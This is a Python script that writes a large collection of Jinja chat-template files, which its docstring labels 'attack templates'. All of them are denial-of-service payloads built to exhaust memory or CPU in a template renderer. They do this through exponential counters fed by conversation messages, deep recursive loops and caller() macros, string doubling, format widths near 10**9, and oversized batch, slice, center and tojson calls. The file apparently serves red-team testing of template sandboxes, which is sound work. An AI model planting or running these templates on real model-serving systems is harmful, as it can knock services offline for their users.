# ruff: noqa: E501
"""rt20tpl attack templates (written as .jinja files into the current directory)."""

A = {}
# namespace counters fed by the conversation
A["ns_mul_range"] = (
    "{% set ns = namespace(n=1) %}{% for m in messages %}{% set ns.n = ns.n * 4 %}{% endfor %}{% for i in range(ns.n) %}.{% endfor %}"
)
A["ns_add_len_range"] = (
    "{% set ns = namespace(n=0) %}{% for m in messages %}{% set ns.n = ns.n + m.content|length %}{% endfor %}{% for i in range(ns.n) %}{% for j in range(ns.n) %}{% endfor %}{% endfor %}"
)
A["ns_mul_repeat"] = (
    "{% set ns = namespace(n=1) %}{% for m in messages %}{% set ns.n = ns.n * 3 %}{% endfor %}{{ 'x' * ns.n }}"
)
A["ns_pow"] = (
    "{% set ns = namespace(n=2) %}{% for m in messages %}{% set ns.n = ns.n ** 2 %}{% endfor %}{{ ns.n }}"
)
A["len_pow_repeat"] = "{{ 'x' * (messages|length) ** 7 }}"
A["len_times_len_range"] = (
    "{% set n = messages|map(attribute='content')|join|length %}{% for i in range(n * n) %}{% endfor %}"
)
A["content_len_range_nest"] = (
    "{% for m in messages %}{% for i in range(m.content|length) %}{% for j in range(m.content|length) %}{% endfor %}{% endfor %}{% endfor %}"
)
# loop.cycle / loop tricks
A["loop_cycle_big"] = (
    "{% set big = range(99999)|list %}{% for i in range(999) %}{% for j in range(999) %}{{ loop.cycle(*big) }}{% endfor %}{% endfor %}"
)
A["loop_cycle_conv"] = (
    "{% for m in messages %}{% for a in m.content %}{{ loop.cycle(*messages|map(attribute='content')|join) }}{% endfor %}{% endfor %}"
)
# recursive loops
A["rec_loop_twice"] = (
    "{% for x in [40] recursive %}{% if x > 0 %}{{ loop([x - 1, x - 1]) }}{% else %}.{% endif %}{% endfor %}"
)
A["rec_loop_deep_lit"] = (
    "{% set d = "
    + "".join(["{'a': "] * 40)
    + "1"
    + "}" * 40
    + " %}{% for x in [d] recursive %}{% if x.a is defined %}{{ loop([x.a, x.a]) }}{% else %}.{% endif %}{% endfor %}"
)
A["rec_loop_items_twice"] = (
    "{% set d = "
    + "".join(["{'a': "] * 40)
    + "1"
    + "}" * 40
    + " %}{% for k, v in d|items recursive %}{% if v is mapping %}{{ loop(v|items) }}{{ loop(v|items) }}{% else %}.{% endif %}{% endfor %}"
)
A["rec_loop_conv_str"] = (
    "{% for x in messages recursive %}{% if x.content is defined %}{{ loop(x.content) }}{% else %}{{ loop(x) }}{% endif %}{% endfor %}"
)
# string doubling in loops
for nm, expr in {
    "mul2": "s * 2",
    "join_list": "[s, s]|join",
    "pct": "'%s%s' % (s, s)",
    "fmt": "'{}{}'.format(s, s)",
    "replace_a": "s|replace('a', 'aa')",
    "replace_empty": "s.replace('', 'a')",
    "center": "s|center(s|length * 2)",
    "ljust": "s.ljust(s|length * 2, 'a')",
    "format_filter": "'%s%s'|format(s, s)",
    "list_add": "(s|list + s|list)|join",
    "slice_cat": "(s ~ s)[:]",
    "indent": "s|indent(s|length)",
    "wordwrap": "s|wordwrap(1, true, s)",
    "tojson": "s|tojson|tojson",
    "ns_pair": None,
}.items():
    if expr is None:
        A["dbl_" + nm] = (
            "{% set ns = namespace(a='a', b='a') %}{% for m in messages %}{% set ns.a = ns.a ~ ns.b %}{% set ns.b = ns.a %}{% endfor %}{{ ns.a|length }}"
        )
        continue
    A["dbl_" + nm] = (
        "{% set ns = namespace(s='a') %}{% for m in messages %}{% set s = ns.s %}{% set ns.s = "
        + expr
        + " %}{% endfor %}{{ ns.s|length }}"
    )
A["dbl_macro"] = (
    "{% macro dbl(x) %}{{ x }}{{ x }}{% endmacro %}{% set ns = namespace(s='a') %}{% for m in messages %}{% set ns.s = dbl(ns.s) %}{% endfor %}{{ ns.s|length }}"
)
A["dbl_assignblock"] = (
    "{% set ns = namespace(s='a') %}{% for m in messages %}{% set t %}{{ ns.s }}{{ ns.s }}{% endset %}{% set ns.s = t %}{% endfor %}{{ ns.s|length }}"
)
A["dbl_two_names"] = (
    "{% set ns = namespace(s='a', t='') %}{% for m in messages %}{% set ns.t = ns.s ~ ns.s %}{% set ns.s = ns.t %}{% endfor %}{{ ns.s|length }}"
)
A["dbl_list_append_self"] = (
    "{% set ns = namespace(l=[1]) %}{% for m in messages %}{% set ns.l = ns.l + ns.l %}{% endfor %}{{ ns.l|length }}"
)
A["dbl_dict_update"] = (
    "{% set ns = namespace(l=['a']) %}{% for m in messages %}{% set ns.l = ns.l * 2 %}{% endfor %}{{ ns.l|length }}"
)
A["dbl_content_grow"] = (
    "{% set ns = namespace(s='') %}{% for m in messages %}{% set ns.s = ns.s ~ ns.s ~ m.content %}{% endfor %}{{ ns.s|length }}"
)
# join of range / map chains / tojson
A["join_range"] = "{% for m in messages %}{{ range(999999)|join(',')|length }}{% endfor %}"
A["map_chain"] = "{{ range(999999)|map('string')|map('center', 100)|join|length }}"
A["tojson_indent_big"] = "{% set big = range(99999)|list %}{{ big|tojson(indent=300)|length }}"
A["tojson_nested_items"] = (
    "{{ range(300)|map('string')|list|tojson }}{% for m in messages %}{{ (range(99999)|list)|tojson|length }}{% endfor %}"
)
A["select_conv_chain"] = (
    "{% for m in messages %}{% for a in m.content %}{{ messages|map(attribute='content')|join|select('equalto', a)|list|length }}{% endfor %}{% endfor %}"
)
# batch / slice
A["batch_fill"] = "{{ [1]|batch(10 ** 8, 'x')|list|length }}"
A["batch_fill_ns"] = (
    "{% set ns = namespace(n=10) %}{% for m in messages %}{% set ns.n = ns.n * 10 %}{% endfor %}{{ [1]|batch(ns.n, 'x')|list|length }}"
)
A["slice_big"] = "{% set k = 10 ** 8 %}{{ range(3)|slice(k)|list|length }}"
A["slice_conv"] = "{{ messages|slice((messages|length) ** 6)|list|length }}"
# string repetition
A["rep_conv_len"] = "{{ 'x' * (messages|map(attribute='content')|join|length) ** 2 }}"
A["rep_list_mul"] = "{{ (messages * 10 ** 7)|length }}"
A["rep_content_mul"] = "{% for m in messages %}{{ (m.content * 99999)|length }}{% endfor %}"
A["rep_in_loop_conv"] = (
    "{% for m in messages %}{% for a in m.content %}{{ ('x' * 99999)|length }}{% endfor %}{% endfor %}"
)
# % formatting / format widths
A["pct_star"] = "{{ ('%*s' % (10 ** 9, 'x'))|length }}"
A["pct_star_conv"] = "{{ ('%*s' % ((messages|length) ** 7, 'x'))|length }}"
A["pct_width_name"] = "{% set w = '999999999' %}{{ ('%' ~ w ~ 's') % 'x' }}"
A["fmt_nested_width"] = "{{ '{:{}}'.format('x', 10 ** 9)|length }}"
A["fmt_named_width"] = "{{ '{:>{w}}'.format('x', w=10 ** 9)|length }}"
A["fmt_filter_width"] = "{{ '%-999999999s'|format('x')|length }}"
A["fmt_prec"] = "{{ '%.999999999f'|format(1.5)|length }}"
A["fmt_map"] = "{{ '{x:>{w}}'.format_map({'x': 'a', 'w': 10 ** 9})|length }}"
A["fmt_conv_width"] = "{{ ('{:>%d}' % ((messages|length) ** 7)).format('x')|length }}"
# indent / center
A["center_ns"] = (
    "{% set ns = namespace(w=10) %}{% for m in messages %}{% set ns.w = ns.w * 10 %}{% endfor %}{{ 'x'|center(ns.w)|length }}"
)
A["indent_conv"] = "{% for m in messages %}{{ m.content|indent(99999)|length }}{% endfor %}"
A["indent_conv_chars"] = (
    "{% for m in messages %}{% for a in m.content %}{{ m.content|indent(2000)|length }}{% endfor %}{% endfor %}"
)
A["center_len_pow"] = "{{ 'x'|center((messages|length) ** 7)|length }}"
A["zfill"] = "{{ 'x'.zfill(10 ** 9)|length }}"
A["expandtabs"] = "{{ ('\t' * 1000).expandtabs(10 ** 6)|length }}"
# caller()
A["caller_loop"] = (
    "{% macro rep() %}{% for i in range(999) %}{{ caller() }}{% endfor %}{% endmacro %}{% call rep() %}{% call rep() %}.{% endcall %}{% endcall %}"
)
A["caller_conv"] = (
    "{% macro each() %}{% for m in messages %}{% for a in m.content %}{{ caller() }}{% endfor %}{% endfor %}{% endmacro %}{% call each() %}{% call each() %}.{% endcall %}{% endcall %}"
)
A["caller_rec"] = (
    "{% macro r(n) %}{% if n > 0 %}{{ caller(n - 1) }}{{ caller(n - 1) }}{% else %}.{% endif %}{% endmacro %}{% macro go(n) %}{% call(k) r(n) %}{{ go(k) }}{% endcall %}{% endmacro %}{{ go(40) }}"
)
A["caller_arg_loop"] = (
    "{% macro m2(x) %}{{ caller(x) }}{{ caller(x) }}{% endmacro %}{% macro f(d) %}{% if d.a is defined %}{% call(y) m2(d.a) %}{{ f(y) }}{% endcall %}{% else %}.{% endif %}{% endmacro %}{{ f("
    + "".join(["{'a': "] * 40)
    + "1"
    + "}" * 40
    + ") }}"
)
# misc
A["dictsort_big"] = (
    "{% set d = dict.fromkeys(range(999999)) %}{% for m in messages %}{{ d|dictsort|length }}{% endfor %}"
)
A["fromkeys_conv"] = (
    "{% for m in messages %}{% for a in m.content %}{{ dict.fromkeys(messages|map(attribute='content')|join)|length }}{% endfor %}{% endfor %}"
)
A["unique_conv"] = (
    "{% for m in messages %}{% for a in m.content %}{{ messages|map(attribute='content')|join|unique|list|length }}{% endfor %}{% endfor %}"
)
A["strftime_big"] = (
    "{% for m in messages %}{% for a in m.content %}{{ strftime_now('%Y' * 9999)|length }}{% endfor %}{% endfor %}"
)
A["lipsum_ns"] = (
    "{% set ns = namespace(n=1) %}{% for m in messages %}{% set ns.n = ns.n * 2 %}{% endfor %}{{ lipsum(ns.n)|length }}"
)
A["sum_lists"] = "{{ range(99999)|map('string')|map('list')|sum(start=[])|length }}"
A["wordcount_loop"] = (
    "{% for m in messages %}{% for a in m.content %}{{ messages|string|wordcount }}{% endfor %}{% endfor %}"
)
A["string_in_conv"] = (
    "{% for m in messages %}{% for a in m.content %}{{ (a ~ m.content) in (messages|string) }}{% endfor %}{% endfor %}"
)
for k, v in A.items():
    open(k + ".jinja", "w").write(v)
print(len(A))
